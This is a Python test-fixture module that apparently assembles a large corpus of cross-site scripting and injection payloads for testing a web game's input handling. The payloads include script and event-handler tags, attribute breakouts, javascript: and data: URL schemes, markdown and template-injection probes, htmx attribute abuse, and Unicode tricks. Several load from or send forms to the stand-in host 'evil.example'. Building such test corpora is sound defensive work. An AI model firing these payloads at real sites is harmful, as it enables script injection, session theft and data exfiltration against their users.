"""Hostile words of our own making: what somebody types who wants to reach into other players' browsers.

Every payload that runs sets `__xss` on the window it runs in, or asks `evil.example` for something.
"""

from html import escape
from itertools import product

RUN = "__xss=1"
ELSEWHERE = "//evil.example/x"

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/y>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f'<img src="x` `"onerror="{RUN}">',
    f"<img src={ELSEWHERE}>",
    f"<img srcset={ELSEWHERE}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</a>",
    f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mtext><style><img src=x onerror={RUN}></style>",
    f"<math href=javascript:{RUN}>x",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form action=javascript:{RUN}><button>x",
    f"<button form=answer formaction={ELSEWHERE}>x",
    f"<form action={ELSEWHERE}><input name=deed>",
    f"<base href={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}'</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<p style=background:url({ELSEWHERE})>x",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xss onpointerrawupdate={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f"<p hidden oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>",
    f"<dialog open onfocus={RUN} autofocus tabindex=0>x",
)
# what closes what the words stand in, so that the tag after it is one
CLOSERS = (
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "--></p>",
    "]]>",
    '">',
    "'>",
    "`>",
    '"/>',
    "</select>",
    '\\">',
)
BREAKERS = tuple(
    closer + tag for closer, tag in product(CLOSERS, (f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>"))
)
# what breaks out of an attribute into another one
EVENTS = ("onfocus", "onpointerenter", "onanimationstart", "onbeforetoggle", "onload")
QUOTES = ('"', "'", "`", "")
ATTRIBUTES = tuple(f"x{quote} {event}={RUN} autofocus tabindex=0 {quote}" for quote, event in product(QUOTES, EVENTS))
# what the scripts of our own pages would act on
OURS = (
    f'<p hx-get="{ELSEWHERE}" hx-trigger="load">',
    f'<p data-hx-get="{ELSEWHERE}" data-hx-trigger="load">',
    f'<p hx-on:click="{RUN}" hx-on::load="{RUN}">',
    f'<p hx-trigger="load[{RUN}]" hx-get="/">',
    f'<p hx-vals="js:{{a:{RUN}}}" hx-get="/" hx-trigger=load>',
    f'" hx-get="{ELSEWHERE}" hx-trigger="load" x="',
    f"' data-hx-on:load='{RUN}' x='",
    f'<hx-partial hx-target="body"><img src=x onerror={RUN}></hx-partial>',
    '<p data-behaviour="../../../evil" data-live="now" data-src="//evil.example/x">',
    '" data-behaviour="copy toast" data-live="now" data-src="//evil.example/x',
    f"<li class=rank data-key=x><span class=who onload={RUN}>",
    '<form data-behaviour="send" action="//evil.example/x"><button autofocus>',
    '<input name="deed" value="0"><input type="hidden" name="answer" value="yes" form="answer">',
    '<div id="words" data-copied="x"></div><div id="toasts"></div><main id="main">',
    '<meta name="htmx-config" content=\'{"prefix":"x-","allowEval":true}\'>',
)
TEMPLATES = (
    *(
        "{{ 7*7 }}",
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{% include 'base.html' %}",
        "{# x",
        "{% raw %}",
        "}}",
    ),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s %d %", "{0} {name} {left}", "$&", "\\u003cscript\\u003e"),
    f"{{{{ '<img src=x onerror={RUN}>' | safe }}}}",
)
SCHEMES = (
    *(
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A;avascript:{RUN}",
    ),
    *(f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"jav&#x09;ascript:{RUN}", f"%6aavascript:{RUN}"),
    *(
        f"javascript%3A{RUN}",
        f"javascript://x%0a{RUN}",
        f"\\javascript:{RUN}",
        f"feed:javascript:{RUN}",
        "view-source:x",
    ),
    *(f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+", "data:,x"),
    *(f"vbscript:{RUN}", f"livescript:{RUN}", "file:///etc/passwd", "blob:x", "about:blank", "intent://x", "ftp://x/"),
    *(ELSEWHERE, "\\\\evil.example", "/\\evil.example", "http:evil", "?x", "#x", "sign-out", "../../sign-out", "tel:1"),
    *(
        "https://localhost@evil.example/",
        "https://evil.example\\@localhost",
        "https:evil.example",
        "mailto:a@b.c?bcc=x",
    ),
)
FRAMES = (
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[![x]({})](/)", '[x]({} "t")', "[x]:{}\n\n[x]"),
)
LINKS = tuple(frame.format(scheme) for scheme in SCHEMES for frame in (FRAMES[0], FRAMES[1], FRAMES[3], FRAMES[4]))
MARKDOWN = (
    *(frame.format(f"javascript:{RUN}") for frame in FRAMES),
    f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    f'```x" onload={RUN} y="\nx\n```',
    f"    <img src=x onerror={RUN}>",
    f"`</code><img src=x onerror={RUN}>`",
    f"# <img src=x onerror={RUN}>",
    f"> <svg onload={RUN}>\n> <!--\n\n--> <img src=x onerror={RUN}>",
    f"<div>\n\n*a*<img src=x onerror={RUN}>\n</div>",
    f"<!-- x --><![CDATA[<img src=x onerror={RUN}>]]><?php x ?>",
    f'[x](https://example.org/"onfocus={RUN}//)',
    f"[x](https://example.org/ '\"onfocus={RUN} y=')",
    f"[<img src=x onerror={RUN}>](https://example.org/)",
    f"[x](https://example.org/?a=<script>{RUN}</script>)",
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;",
    f"\\<img src=x onerror={RUN}\\>",
    "<https://evil.example/x> https://evil.example/x www.evil.example evil@evil.example",
    "1. a\n   - b\n     > c\n\n| a | b |\n|---|---|\n| <b>x | y |",
    "* [x] ~~a~~ ^b^ [^1]\n\n[^1]: <u>note",
)
UNICODE = (
    *(f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u2039img src=x onerror={RUN}\u203a", f"\xbcscript\xbe{RUN}"),
    *("a\u0300" * 20, "Z̸̡̢̛͚̹̋͛͘a̵l̶g̷o̸", "ﷺ" * 9, "𒐫" * 9, "\ufdfd", "שלום <b>", "مرحبا <i>", "‎".strip("‎") + "é"),
    *("\u3164", "\u2800", "ＡＤＡ", "Аdа", "Ⅳ", "ß" * 9, "ŉ", "İ", "🏳️‍🌈", "👩🏽‍🚀", "1\u20e3"),
)
HIDDEN = (  # signs that no line takes
    *(
        "a\0b",
        f"<\0script>{RUN}</script>",
        f"java\0script:{RUN}",
        f"<img src=x \0 onerror={RUN}>",
        "\x1b[2J",
        "\x7f",
        "\x85x",
    ),
    *("\u202egnp.exe", "\u2066a\u2069", "\u200bAda", "A\u200dda", "\ufeffAda", "\u2028x", "\U000e0041x", "\x08\x08x"),
)
LONG = ("W" * 4000, "ab" * 140 + "<wbr>", "x" * 59 + "<", "&" * 300, "<" * 300, "\U0001f980" * 100)
JSON = (
    f'"}}</script><script>{RUN}</script>',
    f"\\u0022}}]}};{RUN}//",
    f"'-{RUN}-'",
    f"\\';{RUN}//",
    f"*/{RUN}/*",
    '","html":"<img src=x onerror=__xss=1>","x":"',
)

CORPUS = tuple(
    dict.fromkeys(
        (*TAGS, *BREAKERS, *ATTRIBUTES, *OURS, *TEMPLATES, *SCHEMES, *LINKS, *MARKDOWN, *UNICODE, *HIDDEN, *LONG, *JSON)
    )
)


def lines(most: int) -> list[str]:
    """Give the payloads that a line of so many signs takes as they are."""
    plain = (" ".join(text.split()) for text in CORPUS if text not in HIDDEN)
    return list(dict.fromkeys(text for text in plain if 0 < len(text) <= most))


def blocks(most: int) -> list[str]:
    """Give texts of many payloads each, parted by blank lines; a payload that could swallow the rest stands alone."""
    found: list[str] = []
    whole = ""
    for text in (text for text in CORPUS if text not in HIDDEN and len(text) < most):
        alone = text.startswith(("```", "<!--", "    ")) or "\n<!--" in text
        if alone or len(whole) + len(text) + 2 > most:
            found.append(whole)
            whole = ""
        if alone:
            found.append(text)
        else:
            whole = f"{whole}\n\n{text}" if whole else text
    return [text for text in (*found, whole) if text]


def links(most: int) -> list[str]:
    """Give addresses that a link field takes, with what could break out of where they stand."""
    parts = (
        "?a=1&b=2&lt;img",
        "#x=y&#34;onload=" + RUN,
        "/;" + RUN,
        "/%22onload=" + RUN,
        "/{{7*7}}",
        "/&quot;",
        "/(x)",
    )
    return [link for part in parts if len(link := f"https://example.org{part}") <= most]


def shown(text: str) -> str:
    """Give how a text must stand in a page: every sign of it as a word."""
    return escape(text)
